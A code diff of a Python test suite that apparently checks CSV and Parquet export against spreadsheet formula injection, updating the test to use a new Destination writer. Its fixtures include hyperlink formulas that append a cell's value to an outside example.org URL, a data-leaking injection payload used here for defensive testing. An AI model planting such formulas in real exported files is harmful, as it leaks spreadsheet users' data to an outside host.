@@ -14,7 +14,7 @@ from hypothesis import strategies as st
 
 from parties.reports.page import FigureGrid, Page, PageSection, to_csv
 from parties.storage.csv_cells import as_text
-from parties.vertical.prediction_output import write_predictions
+from parties.tables.destinations import Destination
 
 BEGINNINGS = "=+-@\t\r\n＝＋－＠"
 FORMULAS = [f'{sign}HYPERLINK("http://example.org/"&A1,"more")' for sign in BEGINNINGS]
@@ -62,7 +62,7 @@ def test_predictions_compute_no_id_and_keep_their_numbers(tmp_path: Path) -> Non
     ids = [*FORMULAS, "-17", "k1"]
     table = pd.DataFrame({"id": ids, "id.a": ids, "prediction": np.linspace(-3, 3, len(ids)), "status": "ok"})
     for name in ("scores.csv", "scores.parquet"):
-        write_predictions(table, tmp_path / name)
+        Destination(tmp_path / name).write(table)
     with (tmp_path / "scores.csv").open(newline="") as file:
         rows = list(csv.reader(file))[1:]
     assert not [cell for row in rows for cell in row if is_computed(cell)]
